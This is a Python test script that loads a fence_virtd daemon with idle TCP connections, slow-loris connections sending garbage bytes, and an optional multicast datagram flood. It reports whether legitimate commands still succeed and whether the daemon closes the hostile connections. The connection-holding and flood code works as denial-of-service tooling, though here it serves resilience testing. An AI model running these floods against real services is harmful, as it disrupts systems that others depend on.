#!/usr/bin/env python3
"""Holds hostile connections open to a fence_virtd while legitimate clients run.

usage: xvm_hold.py [--idle N] [--slow N] [--junk-to GROUP:PORT] [--wait-closed S] PORT -- CMD [-- CMD ...]
  --idle N       N TCP connections to 127.0.0.1:PORT that never send a byte
  --slow N       N connections that send one garbage byte every 0.3 s (slow loris)
  --junk-to G:P  while the commands run, send random 176-byte datagrams to G:P (multicast flood)
  --time         also print the seconds each CMD took (" secs X" at the end of its line)
  --wait-closed S after the commands, wait up to S seconds for the daemon to close every held
                 connection and report how many it closed
Each CMD (a shell command) runs while every connection is held; for each one the script prints
  cmd N rc R held-open K/T
where K of the T connections opened were still open (not closed by the daemon) when CMD returned.
Then, with --wait-closed, "closed-by-daemon K/T". Written independently from fence.md's description.
"""
import os, select, socket, subprocess, sys, threading, time

args = sys.argv[1:]
idle = slow = 0
junk = None
wait_closed = 0.0
show_time = False
while args and args[0].startswith('--') and args[0] != '--':
    opt = args.pop(0)
    if opt == '--idle': idle = int(args.pop(0))
    elif opt == '--slow': slow = int(args.pop(0))
    elif opt == '--junk-to': junk = args.pop(0)
    elif opt == '--wait-closed': wait_closed = float(args.pop(0))
    elif opt == '--time': show_time = True
    else: sys.exit('unknown option ' + opt)
port = int(args.pop(0))
cmds, cur = [], None
for a in args:
    if a == '--':
        cur = []
        cmds.append(cur)
    else:
        cur.append(a)
cmds = [' '.join(c) for c in cmds]

def open_all(n):
    """Starts n connects at once, as an attacker would, and keeps every socket whose connect
    completed or is still in progress after 2 s (a daemon that stops accepting leaves them
    waiting in its backlog). Returns (sockets, completed)."""
    socks = []
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex(('127.0.0.1', port))
        socks.append(s)
    pending, done = set(socks), set()
    end = time.time() + 2
    while pending and time.time() < end:
        _, w, _ = select.select([], list(pending), [], max(0, end - time.time()))
        for s in w:
            pending.discard(s)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                done.add(s)
    return [s for s in socks if s in done or s in pending], len(done)

held, held_done = open_all(idle)
loris, loris_done = open_all(slow)
everything = held + loris
print(f'opened {held_done + loris_done}/{idle + slow}', flush=True)
stop = threading.Event()

def still_open(s):
    try:
        return s.recv(1, socket.MSG_PEEK) != b''
    except BlockingIOError:
        return True
    except OSError:
        return False

def drip():
    while not stop.is_set():
        for s in loris:
            try: s.send(b'x')
            except OSError: pass
        time.sleep(0.3)

def flood():
    host, p = junk.rsplit(':', 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while not stop.is_set():
        for _ in range(50):
            u.sendto(os.urandom(176), (host, int(p)))
        time.sleep(0.01)

threads = [threading.Thread(target=drip, daemon=True)]
if junk: threads.append(threading.Thread(target=flood, daemon=True))
for t in threads: t.start()
time.sleep(0.3)  # every connection accepted (or queued) before the first real request
for i, c in enumerate(cmds, 1):
    started = time.monotonic()
    rc = subprocess.run(c, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode
    took = time.monotonic() - started
    k = sum(1 for s in everything if still_open(s))
    print(f'cmd {i} rc {rc} held-open {k}/{len(everything)}' + (f' secs {took:.3f}' if show_time else ''), flush=True)
stop.set()
if wait_closed:
    end = time.time() + wait_closed
    while time.time() < end and any(still_open(s) for s in everything):
        time.sleep(0.2)
    k = sum(1 for s in everything if not still_open(s))
    print(f'closed-by-daemon {k}/{len(everything)}', flush=True)
